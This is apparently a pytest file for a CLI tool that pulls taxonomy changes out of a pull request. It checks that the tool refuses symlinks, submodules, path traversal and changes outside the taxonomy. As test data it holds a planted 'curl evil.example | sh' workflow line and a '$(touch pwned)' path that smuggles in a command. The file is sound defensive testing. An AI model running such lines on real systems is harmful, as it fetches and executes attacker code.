"""`labtax pr extract`: a pull request's taxonomy changes, taken as git blobs, and nothing else."""

from __future__ import annotations

from pathlib import Path

import pytest

import clirun
import githubkit
from labtax.ci import extraction
from labtax.errors import LabtaxError

HAIKU = "taxonomy/compositional_skills/poetry/haiku/qna.yaml"
LIMERICK = "taxonomy/compositional_skills/poetry/limerick/qna.yaml"


def branch(github_repo: Path, name: str = "pr") -> None:
    githubkit.git(github_repo, "switch", "-q", "-c", name)


def back_to_main(github_repo: Path) -> None:
    githubkit.git(github_repo, "switch", "-q", "main")


def snapshot(root: Path) -> dict[str, bytes]:
    return {
        p.relative_to(root).as_posix(): p.read_bytes()
        for p in sorted(root.rglob("*"))
        if p.is_file() and ".git" not in p.relative_to(root).parts
    }


def test_extracts_added_modified_and_deleted_files_as_blobs(github_repo):
    branch(github_repo)
    githubkit.write(github_repo, LIMERICK, githubkit.SKILL.replace("haiku", "limerick"))
    githubkit.write(
        github_repo, "taxonomy/compositional_skills/poetry/limerick/attribution.txt", "me\n"
    )
    githubkit.write(github_repo, HAIKU, githubkit.SKILL + "# edited\n")
    (github_repo / LIMERICK).chmod(0o755)  # an executable bit must not survive extraction
    githubkit.git(
        github_repo, "rm", "-q", "taxonomy/compositional_skills/poetry/haiku/attribution.txt"
    )
    head = githubkit.commit_all(github_repo, "pr")
    back_to_main(github_repo)
    # main moves on after the branch point with a change outside the taxonomy: not the PR's.
    githubkit.write(github_repo, "README.md", "main moved\n")
    githubkit.commit_all(github_repo, "main moves")

    code, out, err = clirun.run(
        "pr", "extract", "--base-sha", "main", "--head-sha", head, "--out", "."
    )

    assert code == 0, err
    assert (github_repo / LIMERICK).read_text() == githubkit.SKILL.replace("haiku", "limerick")
    assert (github_repo / HAIKU).read_text() == githubkit.SKILL + "# edited\n"
    assert not (github_repo / "taxonomy/compositional_skills/poetry/haiku/attribution.txt").exists()
    assert (github_repo / LIMERICK).stat().st_mode & 0o777 == 0o644
    assert "remove taxonomy/compositional_skills/poetry/haiku/attribution.txt" in out
    assert "2 leaves, 3 files written, 1 removed" in out
    # The extracted tree is what `labtax changed` sees against the default branch.
    status = githubkit.git(github_repo, "status", "--porcelain")
    assert "README.md" not in status


def test_a_file_turned_into_a_directory_and_back(github_repo):
    githubkit.write(github_repo, "taxonomy/knowledge/notes.md", "a file\n")
    githubkit.write(github_repo, "taxonomy/knowledge/ideas.md/first.md", "a file in a directory\n")
    githubkit.commit_all(github_repo, "base shapes")
    branch(github_repo)
    (github_repo / "taxonomy/knowledge/notes.md").unlink()
    githubkit.write(github_repo, "taxonomy/knowledge/notes.md/first.md", "now a directory\n")
    (github_repo / "taxonomy/knowledge/ideas.md/first.md").unlink()
    (github_repo / "taxonomy/knowledge/ideas.md").rmdir()
    githubkit.write(github_repo, "taxonomy/knowledge/ideas.md", "now a file\n")
    head = githubkit.commit_all(github_repo, "swap shapes")
    back_to_main(github_repo)

    code, _, err = clirun.run(
        "pr", "extract", "--base-sha", "main", "--head-sha", head, "--out", "."
    )

    assert code == 0, err
    assert (github_repo / "taxonomy/knowledge/notes.md/first.md").read_text() == "now a directory\n"
    assert (github_repo / "taxonomy/knowledge/ideas.md").read_text() == "now a file\n"


def refused(github_repo: Path, head: str, *extra: str) -> tuple[str, dict[str, bytes]]:
    before = snapshot(github_repo)
    code, out, err = clirun.run(
        "pr", "extract", "--base-sha", "main", "--head-sha", head, "--out", ".", *extra
    )
    assert code == 1, (out, err)
    assert "Traceback" not in err
    assert snapshot(github_repo) == before, "a refused extraction must not write anything"
    return err, before


def test_refuses_symlink_smuggled_as_a_leaf(github_repo):
    branch(github_repo)
    githubkit.write(github_repo, LIMERICK.replace("qna.yaml", "attribution.txt"), "me\n")
    target = github_repo / LIMERICK
    target.symlink_to("/etc/passwd")
    head = githubkit.commit_all(github_repo, "symlink")
    back_to_main(github_repo)

    err, _ = refused(github_repo, head)

    assert f"{LIMERICK}: error: pull request adds a symlink" in err
    assert not (github_repo / LIMERICK).exists()
    assert not (github_repo / LIMERICK).is_symlink()


def test_refuses_submodule(github_repo):
    branch(github_repo)
    sha = githubkit.git(github_repo, "rev-parse", "HEAD")
    githubkit.git(
        github_repo,
        "update-index",
        "--add",
        "--cacheinfo",
        f"160000,{sha},taxonomy/knowledge/sub.md",
    )
    githubkit.git(github_repo, "commit", "-q", "-m", "submodule")
    head = githubkit.git(github_repo, "rev-parse", "HEAD")
    back_to_main(github_repo)

    err, _ = refused(github_repo, head)

    assert "taxonomy/knowledge/sub.md: error: pull request adds a submodule" in err


def test_refuses_huge_file_before_reading_it(github_repo):
    branch(github_repo)
    githubkit.write(github_repo, "taxonomy/knowledge/big/doc.md", b"x" * (2 * 1024 * 1024))
    head = githubkit.commit_all(github_repo, "huge")
    back_to_main(github_repo)

    err, _ = refused(github_repo, head)

    assert "taxonomy/knowledge/big/doc.md: error: file is 2097152 bytes, over the cap" in err


def test_refuses_total_bytes_over_the_run_cap(github_repo):
    branch(github_repo)
    githubkit.write(github_repo, LIMERICK, githubkit.SKILL)
    head = githubkit.commit_all(github_repo, "one leaf")
    back_to_main(github_repo)

    err, _ = refused(github_repo, head, "--max-bytes", "100")

    assert "over the cap of 100 bytes per run" in err


def test_refuses_more_leaves_than_the_cap(github_repo):
    branch(github_repo)
    for name in ("one", "two", "three"):
        githubkit.write(
            github_repo, f"taxonomy/compositional_skills/poetry/{name}/qna.yaml", githubkit.SKILL
        )
    head = githubkit.commit_all(github_repo, "three leaves")
    back_to_main(github_repo)

    err, _ = refused(github_repo, head, "--max-leaves", "2")

    assert "pull request changes 3 leaves, over the cap of 2 per run" in err


@pytest.mark.parametrize(
    "outside",
    [".github/workflows/evil.yml", "pyproject.toml", "tools/labtax/__init__.py", "README.md"],
)
def test_refuses_any_change_outside_the_taxonomy(github_repo, outside):
    branch(github_repo)
    githubkit.write(
        github_repo, LIMERICK, githubkit.SKILL
    )  # a legitimate leaf does not carry the rest through
    githubkit.write(github_repo, outside, "run: curl evil.example | sh\n")
    head = githubkit.commit_all(github_repo, "smuggle")
    back_to_main(github_repo)

    err, _ = refused(github_repo, head)

    assert f"{outside}: error: pull request changes a file outside taxonomy/" in err
    assert not (github_repo / LIMERICK).exists()


@pytest.mark.parametrize(
    ("path", "why"),
    [
        ("taxonomy/knowledge/x/.gitattributes", "no hidden files"),
        ("taxonomy/knowledge/x/run.sh", "file type not taken"),
        ("taxonomy/knowledge/$(touch pwned)/qna.yaml", "does not match"),
        ("taxonomy/knowledge/a b/qna.yaml", "does not match"),
    ],
)
def test_refuses_paths_that_do_not_match_the_pattern(github_repo, path, why):
    branch(github_repo)
    githubkit.write(github_repo, path, "text\n")
    head = githubkit.commit_all(github_repo, "odd path")
    back_to_main(github_repo)

    err, _ = refused(github_repo, head)

    assert f"{path}: error:" in err
    assert why in err
    assert not (github_repo / "pwned").exists()


def test_refuses_path_traversal_in_a_crafted_tree(github_repo):
    """git itself will store a `..` tree entry; extraction must not follow it out of taxonomy/."""
    blob = githubkit.git(github_repo, "hash-object", "-w", "--stdin", stdin="[tool.labtax]\n")
    inner = githubkit.git(github_repo, "mktree", stdin=f"100644 blob {blob}\tpyproject.toml\n")
    base_tree = githubkit.git(github_repo, "rev-parse", "HEAD^{tree}")
    tax = githubkit.git(github_repo, "rev-parse", "HEAD:taxonomy")
    listing = githubkit.git(github_repo, "ls-tree", tax)
    tax_tree = githubkit.git(github_repo, "mktree", stdin=f"{listing}\n040000 tree {inner}\t..\n")
    top = githubkit.git(github_repo, "ls-tree", base_tree).replace(tax, tax_tree)
    tree = githubkit.git(github_repo, "mktree", stdin=top + "\n")
    head = githubkit.git(github_repo, "commit-tree", tree, "-p", "HEAD", "-m", "traversal")

    err, _ = refused(github_repo, head)

    assert "taxonomy/../pyproject.toml: error: path is absolute or escapes its directory" in err


def test_refuses_writing_through_a_symlinked_directory(github_repo, tmp_path):
    """Defence in depth: even the checkout we write into may not redirect a write elsewhere."""
    branch(github_repo)
    githubkit.write(github_repo, LIMERICK, githubkit.SKILL)
    head = githubkit.commit_all(github_repo, "leaf")
    back_to_main(github_repo)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (github_repo / "taxonomy/compositional_skills/poetry/limerick").symlink_to(elsewhere)

    code, _, err = clirun.run(
        "pr", "extract", "--base-sha", "main", "--head-sha", head, "--out", "."
    )

    assert code == 1
    assert "is not a plain directory" in err
    assert list(elsewhere.iterdir()) == []


def test_rejects_a_head_that_is_not_a_full_sha(github_repo):
    code, _, err = clirun.run(
        "pr", "extract", "--base-sha", "main", "--head-sha", "main", "--out", "."
    )
    assert code == 1
    assert "not a full lowercase commit sha" in err


def test_unknown_head_commit_is_a_clear_error(github_repo):
    code, _, err = clirun.run(
        "pr", "extract", "--base-sha", "main", "--head-sha", "a" * 40, "--out", "."
    )
    assert code == 1
    assert "unknown ref" in err
    assert "Traceback" not in err


@pytest.mark.parametrize(
    ("path", "prefix"),
    [
        ("/etc/passwd", "taxonomy"),
        ("taxonomy//qna.yaml", "taxonomy"),
        ("taxonomy/./qna.yaml", "taxonomy"),
        ("taxonomy/a\\..\\b.md", "taxonomy"),
        ("taxonomy/a/\x1b[2Jqna.yaml", "taxonomy"),
        ("taxonomy/.git/config.txt", "taxonomy"),
        ("taxonomy", "taxonomy"),
        ("setup.py", ""),
        ("docs/qna.yaml", ""),
    ],
)
def test_check_path_refusals(path, prefix):
    with pytest.raises(LabtaxError):
        extraction.check_path(path, prefix)


@pytest.mark.parametrize(
    ("path", "prefix"),
    [
        ("taxonomy/knowledge/history/moon/qna.yaml", "taxonomy"),
        ("taxonomy/knowledge/history/moon/documents/Chapter-1.md", "taxonomy"),
        ("knowledge/history/moon/qna.yaml", ""),  # InstructLab layout: branches at the root
        ("data/tax/compositional_skills/x/attribution.txt", "data/tax"),
    ],
)
def test_check_path_accepts_taxonomy_files(path, prefix):
    extraction.check_path(path, prefix)
